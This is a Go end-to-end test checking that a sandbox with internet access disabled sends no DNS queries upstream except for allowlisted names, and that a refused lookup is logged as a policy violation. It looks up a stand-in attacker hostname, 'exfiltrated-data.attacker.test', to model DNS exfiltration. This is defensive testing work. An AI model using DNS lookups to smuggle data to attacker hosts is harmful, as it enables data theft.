package server

import (
	"encoding/json"
	"net/netip"
	"os"
	"strings"
	"testing"

	"github.com/paddock/paddock/internal/config"
	"github.com/paddock/paddock/internal/testenv"
)

// resolveScript prints "ok" or "ERR" for each name of argv[1:], looked up through the
// sandbox's resolver.
const resolveScript = `
import socket, sys
for name in sys.argv[1:]:
    try:
        socket.getaddrinfo(name, 80, socket.AF_INET)
        print("ok")
    except Exception:
        print("ERR")
`

// TestE2BInternetOffResolvesNothing is issue 10's DNS leak, end to end: an E2B sandbox
// created with allow_internet_access false sends no query to the upstream resolver, except
// for the names its allowOut names.
func TestE2BInternetOffResolvesNothing(t *testing.T) {
	testenv.NeedRunc(t)
	if _, err := os.Stat("/usr/bin/python3"); err != nil {
		testenv.Require(t, "interpreters", "python3 not installed: apt-get install python3")
	}
	inet := testenv.StartInternet(t, serverSubnet)
	dns := testenv.StartDNS(t, map[string]netip.Addr{"site.test": inet.Addr, "allowed.test": inet.Addr})
	s := newTestServer(t, func(c *config.Config) { c.EgressDNS = []string{dns.Addr} })
	code, body, _ := s.e2bCall("POST", "/e2b/v1/sandboxes", map[string]any{"templateID": "base",
		"allow_internet_access": false, "network": map[string]any{"allowOut": []string{"allowed.test"}}}, nil)
	if code != 201 {
		t.Fatalf("create: %d %s", code, body)
	}
	var sb struct {
		SandboxID string `json:"sandboxID"`
	}
	_ = json.Unmarshal(body, &sb)
	resolve := func(names ...string) string {
		t.Helper()
		code, env := s.call("POST", "/sandboxes/"+sb.SandboxID+"/exec",
			map[string]any{"command": append([]string{"python3", "-c", resolveScript}, names...)}, "")
		if code != 200 {
			t.Fatalf("exec: %d %s", code, env.Error)
		}
		return strings.Join(strings.Fields(data[execOut](t, env).Stdout), " ")
	}
	if got := resolve("site.test", "exfiltrated-data.attacker.test"); got != "ERR ERR" {
		t.Errorf("lookups with the internet off: %q, want both to fail", got)
	}
	if n := dns.Queries.Load(); n != 0 {
		t.Fatalf("the upstream resolver got %d queries from a sandbox without internet access", n)
	}
	if got := resolve("allowed.test"); got != "ok" {
		t.Errorf("lookup of the allowOut name: %q", got)
	}
	if dns.Queries.Load() == 0 {
		t.Error("the allowed lookup did not reach the upstream resolver")
	}
	if got := s.fetchIn(sb.SandboxID, "http://allowed.test/"); got != "hello from allowed.test" {
		t.Errorf("GET allowed.test = %q", got)
	}
	code, env := s.call("GET", "/events?type=policy_violation", nil, "")
	if code != 200 || !strings.Contains(string(env.Data), "exfiltrated-data.attacker.test") {
		t.Errorf("no policy_violation event for the refused lookup: %d %s", code, env.Data)
	}
}
